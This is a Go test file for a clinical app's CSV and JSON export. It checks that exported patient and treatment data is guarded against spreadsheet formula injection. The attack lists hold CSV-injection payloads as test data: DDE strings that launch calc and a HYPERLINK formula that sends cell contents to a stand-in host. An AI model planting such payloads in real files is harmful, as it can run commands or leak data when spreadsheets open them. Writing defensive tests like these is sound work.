package exchange

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"pgregory.net/rapid"

	"stipple/app/clinical"
	"stipple/app/fold"
)

func writeCSV(t testing.TB, table Table, o CSVOptions) string {
	t.Helper()
	var b bytes.Buffer
	if _, err := WriteCSV(&b, table, o); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// attacks are texts that a spreadsheet would take for a formula, or that a
// reader could cut so that one begins a cell.
func attacks() []string {
	var all []string
	for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212", "\t", "\r", "\n"} {
		for _, before := range []string{"", " ", "   ", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff", "\u00ad", "\u200e", "\x00", "\x1b", "\xff", "\t", "\r", "\n",
			"'", "''", "\"", "\"\"", "“", "”", "„", "‘", "’", "‚", "«", "»", "`", "´", "＂", "＇", " ' \" "} {
			all = append(all, before+sign+"1+1")
		}
	}
	return append(all,
		`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=HYPERLINK("http://x.invalid/?"&A1,"Ruiz")`, `+49 30 0`, `-5`, "=", "'=", "''=",
	)
}

// cutters are attacks inside a text, behind what another reader cuts at.
func cutters() []string {
	var all []string
	for _, cut := range []string{",", ";", "\t", "\n", "\r\n", `";`, `",`, `""";`} {
		for _, a := range []string{"=1+1", " =1+1", `"=1+1`, "'=1+1", "＝1+1", "@x", "-1"} {
			all = append(all, "Ruiz"+cut+a)
		}
	}
	return all
}

func TestNoFormulaLeaves(t *testing.T) {
	for _, a := range append(attacks(), cutters()...) {
		p := tomas()
		p.FamilyName = a
		file := writeCSV(t, Patients(slices.Values([]clinical.Patient{p})), CSVOptions{})
		got, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil || len(got) != 2 {
			t.Fatalf("%q: %q %v", a, got, err)
		}
		// Whatever a spreadsheet cuts at, no cell begins a formula, whether it
		// minds quotes or not.
		for _, cell := range strings.FieldsFunc(got[1][1], func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if bare := strings.TrimLeftFunc(cell, skipped); bare != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫\u2212", rune0(bare)) && !strings.HasPrefix(cell, "'") {
				t.Errorf("%q: the cell %q", a, cell)
			}
		}
		if slices.Contains(attacks(), a) && !strings.HasPrefix(got[1][1], "'") {
			t.Errorf("%q is written as %q", a, got[1][1])
		}
		if back := unguard(guard(a)); back != a {
			t.Errorf("%q comes back as %q", a, back)
		}
	}
	for _, good := range []string{"", "Ruiz", "O'Brien", "'t Hooft", "'s-Hertogenbosch", "Ben Salah", "F-20105", "Ana (=Anna)", "a=b", "“Ana”", "1+1", "Ruiz, Ana", "Ruiz; Ana -"} {
		if got := guard(good); got != good {
			t.Errorf("%q is written as %q", good, got)
		}
		if got := unguard(good); got != good {
			t.Errorf("%q is read as %q", good, got)
		}
	}
}

// skipped is what spreadsheets pass over, as this test sees it: everything that
// is no letter, digit or sign, but for the apostrophe that marks a text.
func skipped(r rune) bool {
	return r == utf8.RuneError || unicode.IsSpace(r) || !unicode.IsPrint(r) || strings.ContainsRune("\"“”„‘’‚«»`´＂＇", r)
}

func rune0(s string) rune { r, _ := utf8.DecodeRuneInString(s); return r }

func TestGuardIsReversible(t *testing.T) {
	piece := rapid.OneOf(rapid.SampledFrom([]string{"'", "\"", "=", "-", "@", "＝", " ", "\t", "\r", "\n", ",", ";", "\u200b", "a", "\xff"}), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(piece, 0, 12).Draw(t, "pieces"), "")
		if got := unguard(guard(s)); got != s {
			t.Fatalf("%q becomes %q becomes %q", s, guard(s), got)
		}
	})
}

// Our own numbers are numbers, whatever their sign.
func TestNumbersStayNumbers(t *testing.T) {
	preset := clinical.Preset{ID: "-1", Revision: -1, PenKind: clinical.RF}
	preset.Settings.Depth = -5
	got := writeCSV(t, Presets(slices.Values([]clinical.Preset{preset})), CSVOptions{})
	if _, line, _ := strings.Cut(got, "\r\n"); line != "'-1,-1,,,rf,,,-5,0,0,0,,\r\n" {
		t.Error(line)
	}
}

// Quotes stand where any reader might cut, or drop a blank, and nowhere else.
func TestQuotes(t *testing.T) {
	for value, want := range map[string]string{
		"Ruiz": "Ruiz", "": "", "Ana María": "Ana María", "O'Brien": "O'Brien",
		" Ruiz": `" Ruiz"`, "Ruiz\u00a0": "\"Ruiz\u00a0\"", "a,b": `"a,b"`, "a;b": `"a;b"`, "a\tb": "\"a\tb\"", "a\rb": "\"a\rb\"", "a\nb": "\"a\nb\"", `a"b`: `"a""b"`, `"`: `""""`,
	} {
		if got := string(appendCell(nil, 0, value, ',')); got != want {
			t.Errorf("%q is written as %s", value, got)
		}
	}
}

func genText(runes int) *rapid.Generator[string] {
	piece := rapid.OneOf(
		rapid.SampledFrom([]string{"=", "+", "-", "@", "'", "\"", "＝", ",", ";", " ", "\u00a0", "\u200b", "«", "Novák", "Leïla", "\uFEFF", "sep=;", "\u2028", "\uFFFD"}),
		rapid.StringN(1, 8, -1), rapid.StringMatching(`[A-Za-zÄ-ÿ' -]{1,12}`))
	return rapid.Map(rapid.SliceOfN(piece, 1, 12), func(pieces []string) string {
		clean := strings.Map(func(r rune) rune {
			if !cleanText(string(r)) {
				return -1
			}
			return r
		}, strings.Join(pieces, ""))
		if all := []rune(clean); len(all) > runes {
			clean = string(all[:runes])
		}
		return tidy(clean)
	})
}

func genPatient() *rapid.Generator[clinical.Patient] {
	return rapid.Custom(func(t *rapid.T) clinical.Patient {
		some := func(runes int, label string) string {
			return genText(runes).Filter(func(s string) bool { return s != "" }).Draw(t, label)
		}
		born := time.Date(1897, 1, 1, 0, 0, 0, 0, time.UTC).AddDate(0, 0, rapid.IntRange(0, 47_000).Draw(t, "born"))
		return clinical.Patient{
			ID: "0001", Revision: 2, Created: now(), Updated: now(),
			FileNumber: some(maxFileNumberRunes, "number"), FamilyName: some(maxNameRunes, "family"), GivenName: genText(maxNameRunes).Draw(t, "given"),
			BirthDate:   clinical.Date{Year: born.Year(), Month: born.Month(), Day: born.Day()},
			Sex:         rapid.SampledFrom([]clinical.Sex{"", clinical.Female, clinical.Male, clinical.SexOther}).Draw(t, "sex"),
			Fitzpatrick: clinical.Fitzpatrick(rapid.IntRange(0, 6).Draw(t, "skin")),
		}
	})
}

func sameButForTheStore() cmp.Option {
	return cmpopts.IgnoreFields(clinical.Patient{}, "ID", "Revision", "Created", "Updated")
}

// What the store can hold goes out and comes back.
func TestExportComesBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		want := rapid.SliceOfNDistinct(genPatient(), 1, 5, func(p clinical.Patient) string { return fold.Number(p.FileNumber) }).Draw(t, "patients")
		o := CSVOptions{BOM: rapid.Bool().Draw(t, "bom"), Delimiter: rapid.SampledFrom([]rune{0, ',', ';', '\t'}).Draw(t, "delimiter")}
		var b bytes.Buffer
		n, err := WriteCSV(&b, Patients(slices.Values(want)), o)
		if err != nil || n != len(want) {
			t.Fatalf("%d written, %v", n, err)
		}
		p, err := ReadPatients(&b, auto())
		if err != nil {
			t.Fatal(err)
		}
		if len(p.Errors) > 0 || len(p.Needs) > 0 {
			t.Fatal(p.Columns, p.Errors, p.Needs)
		}
		var got []clinical.Patient
		for _, r := range states(p, New) {
			got = append(got, r.Patient)
		}
		if diff := cmp.Diff(want, got, sameButForTheStore()); diff != "" {
			t.Fatal(diff)
		}
	})
}

func treated() clinical.Treatment {
	return clinical.Treatment{
		ID: "t1", Revision: 3, Patient: "p1", Operator: clinical.Operator{ID: "o1", Name: "Dr A. Meyer", Role: clinical.RoleClinician},
		PenKind: clinical.RF, PenModel: "R1", PenSerial: "0042", PenFirmware: "=1.0.0", Simulated: true,
		Tip:        clinical.Tip{ID: 7, Present: true, Lot: "7KX20", Expiry: date(2027, time.March, 31), Pins: 25, Insulated: true, NeedleLength: 3500},
		Indication: "acne_scars", Zone: "cheek_left", Fitzpatrick: clinical.FitzpatrickIV, LibraryVersion: "sample", LibraryHash: "00ff",
		Preset: "s1", PresetRevision: 2,
		Applied: []clinical.Applied{{Settings: clinical.Settings{Depth: 1}}, {Settings: clinical.Settings{Depth: 1500, Speed: 60, Power: 12000, Duration: 100}}},
		Pulses:  []clinical.Pulse{{Energy: 1_200_000, Strokes: 1}, {Energy: 1_199_000, Strokes: 2}}, Passes: 2,
		Alarms:      []clinical.Alarm{{Priority: "low"}},
		HandOvers:   []clinical.HandOver{{To: clinical.Operator{ID: "o2", Name: "Dr S. Haddad", Role: clinical.RoleSeniorClinician}}},
		StopLatency: 1500 * time.Microsecond, StopCheck: 18 * time.Millisecond,
		Started: time.Date(2026, time.November, 23, 12, 30, 0, 500_000_000, time.FixedZone("", 3600)), Ended: now(), Outcome: clinical.OutcomeReconciled,
		Reconciled: clinical.Reconciliation{Cause: clinical.CauseLink, Signature: clinical.Signature{At: now(), By: clinical.Operator{Name: "Dr S. Haddad"}, Verdict: clinical.AsReconciled}},
	}
}

func TestTreatmentsAsWritten(t *testing.T) {
	needling := clinical.Treatment{ID: "t2", Revision: 1, Patient: "p1", PenKind: clinical.Needling, Outcome: clinical.OutcomeIntent, Started: now(),
		Applied: []clinical.Applied{{Settings: clinical.Settings{Depth: 750, Speed: 6000}}}}
	table := Treatments(slices.Values([]clinical.Treatment{treated(), needling}))
	want := strings.Join([]string{
		"treatment_id,revision,patient_id,started_utc,ended_utc,outcome,uncertain_cause,signed_as,signed_by,signed_at_utc,operator_id,operator_name,operator_role,hand_overs,last_operator_id,last_operator_name,indication,zone,fitzpatrick,library_version,library_hash,preset_id,preset_revision," +
			"pen_kind,pen_model,pen_serial,pen_firmware,simulated,tip_id,tip_lot,tip_expiry,tip_pins,tip_insulated,tip_needle_um," +
			"depth_um,speed_spm,power_mw,pulse_ms,pulses,passes,strokes,energy_uj,alarm_entries,stop_latency_us,stop_check_us",
		"t1,3,p1,2026-11-23T11:30:00.5Z,2026-11-23T12:00:00Z,reconciled,link,reconciled,Dr S. Haddad,2026-11-23T12:00:00Z,o1,Dr A. Meyer,clinician,1,o2,Dr S. Haddad,acne_scars,cheek_left,IV,sample,00ff,s1,2," +
			"rf,R1,0042,'=1.0.0,true,7,7KX20,2027-03-31,25,true,3500,1500,60,12000,100,2,2,3,2399000,1,1500,18000",
		"t2,1,p1,2026-11-23T12:00:00Z,,intent,,,,,,,,0,,,,,,,,,,needling,,,,false,,,,,,,750,6000,,,0,0,0,,0,,", "",
	}, "\r\n")
	if diff := cmp.Diff(want, writeCSV(t, table, CSVOptions{})); diff != "" {
		t.Error(diff)
	}
}

// JSON has the columns of CSV and the same values, each with its type.
func TestJSONSaysTheSame(t *testing.T) {
	preset := clinical.Preset{ID: "s1", Revision: 1, Patient: "p1", Name: "=\"Cheek\",\n\u2028\xff", PenKind: clinical.RF, Settings: clinical.Settings{Depth: 1500, Speed: 60}, SavedAt: now()}
	patient := tomas()
	patient.Created = now()
	for _, table := range []Table{
		Patients(slices.Values([]clinical.Patient{patient, {FileNumber: "F-1"}})), Presets(slices.Values([]clinical.Preset{preset})), Treatments(slices.Values([]clinical.Treatment{treated()})), Safety(slices.Values([]clinical.SafetyRecord{safetyRecord()})), Patients(slices.Values([]clinical.Patient(nil))), {},
	} {
		var b bytes.Buffer
		n, err := WriteJSON(&b, table)
		if err != nil {
			t.Fatal(err)
		}
		var got struct {
			Kind    string
			Version int
			Records []map[string]any
		}
		d := json.NewDecoder(&b)
		d.UseNumber()
		if err := d.Decode(&got); err != nil {
			t.Fatal(err)
		}
		if got.Kind != table.Kind() || got.Version != jsonVersion || len(got.Records) != n {
			t.Errorf("%+v", got)
		}
		lines, err := csv.NewReader(strings.NewReader(writeCSV(t, table, CSVOptions{}))).ReadAll()
		if table.Columns() == nil {
			continue // an empty line is no line for package csv
		}
		if err != nil || len(lines) != n+1 {
			t.Fatal(lines, err)
		}
		for i, record := range got.Records {
			if len(record) != len(lines[0]) {
				t.Errorf("keys %v", record)
			}
			for c, name := range lines[0] {
				text := ""
				if v := record[name]; v != nil {
					text = fmt.Sprint(v)
				}
				if unguard(lines[i+1][c]) != text {
					t.Errorf("%s: %q in JSON, %q in CSV", name, text, lines[i+1][c])
				}
			}
		}
	}
	var b bytes.Buffer
	if _, err := WriteJSON(&b, Presets(slices.Values([]clinical.Preset{preset}))); err != nil {
		t.Fatal(err)
	}
	want := `{"kind":"presets","version":1,"records":[
{"preset_id":"s1","revision":1,"patient_id":"p1","name":"=\"Cheek\",\n\u2028` + "\uFFFD" + `","pen_kind":"rf","indication":null,"zone":null,"depth_um":1500,"speed_spm":60,"power_mw":0,"pulse_ms":0,"saved_at_utc":"2026-11-23T12:00:00Z","saved_by":null}
]}
`
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

// breaking is a writer that takes so many calls, and half of the next.
type breaking struct {
	calls int
	err   error
	got   bytes.Buffer
}

func (b *breaking) Write(p []byte) (int, error) {
	if b.calls--; b.calls < 0 {
		n, _ := b.got.Write(p[:len(p)/2])
		return n, b.err
	}
	return b.got.Write(p)
}

func TestAnErrorInTheMiddleIsSaidAtOnce(t *testing.T) {
	full := errors.New("disk full")
	three := Patients(slices.Values([]clinical.Patient{tomas(), tomas(), tomas()}))
	write := map[string]func(io.Writer, Table) (int, error){
		"csv":  func(w io.Writer, t Table) (int, error) { return WriteCSV(w, t, CSVOptions{}) },
		"json": WriteJSON,
	}
	for name, write := range write {
		for calls, want := range []int{0, 0, 1, 2} {
			w := &breaking{calls: calls, err: full}
			if n, err := write(w, three); n != want || !errors.Is(err, full) || w.calls != -1 {
				t.Errorf("%s after %d calls: %d records, %v, %d calls too many", name, calls, n, err, -1-w.calls)
			}
		}
		if n, err := write(&breaking{calls: 2}, three); n != 1 || !errors.Is(err, io.ErrShortWrite) {
			t.Errorf("%s: %d records, %v", name, n, err)
		}
		for column, change := range map[string]func(*clinical.Patient){
			"created_utc": func(p *clinical.Patient) { p.Created = time.Date(10_000, 1, 1, 0, 0, 0, 0, time.UTC) },
			"birth_date":  func(p *clinical.Patient) { p.BirthDate = date(1984, 2, 31) },
			"fitzpatrick": func(p *clinical.Patient) { p.Fitzpatrick = 7 },
		} {
			odd := tomas()
			change(&odd)
			var b bytes.Buffer
			n, err := write(&b, Patients(slices.Values([]clinical.Patient{tomas(), odd, tomas()})))
			var record *RecordError
			if n != 1 || !errors.As(err, &record) || record.Record != 2 || record.Column != column || strings.Count(b.String(), "F-20105") != 1 {
				t.Errorf("%s, %s: %d records, %v", name, column, n, err)
			}
		}
	}
	if _, err := WriteCSV(io.Discard, three, CSVOptions{Delimiter: '|'}); !errors.Is(err, ErrOptions) {
		t.Error(err)
	}
}

// What a hostile file has on its faulty lines is no formula in the list of them.
func TestFaultsAreGuarded(t *testing.T) {
	p := read(t, "File number;Family name;Birth date\nF-1;Ruiz;=cmd|calc\n", auto())
	file := writeCSV(t, Faults(p.Errors), CSVOptions{})
	if !strings.Contains(file, "2,3,Birth date,bad_value,'=cmd|calc,") {
		t.Error(file)
	}
}
